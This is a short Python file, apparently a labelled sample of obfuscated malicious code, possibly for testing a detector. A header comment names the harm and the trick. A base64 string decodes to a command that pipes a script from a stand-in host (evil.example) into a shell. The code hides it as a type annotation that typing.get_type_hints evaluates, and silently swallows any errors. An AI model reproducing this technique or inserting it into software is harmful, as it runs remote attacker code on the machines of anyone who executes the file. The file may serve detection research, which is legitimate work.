# harm: runs curl|sh via os.system ; trick: typing.reveal_type(decoded) returns its argument (and prints its type)
import base64
import typing

Kind = typing.reveal_type(base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9pLnNofHNoJyk=").decode())


def handler(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
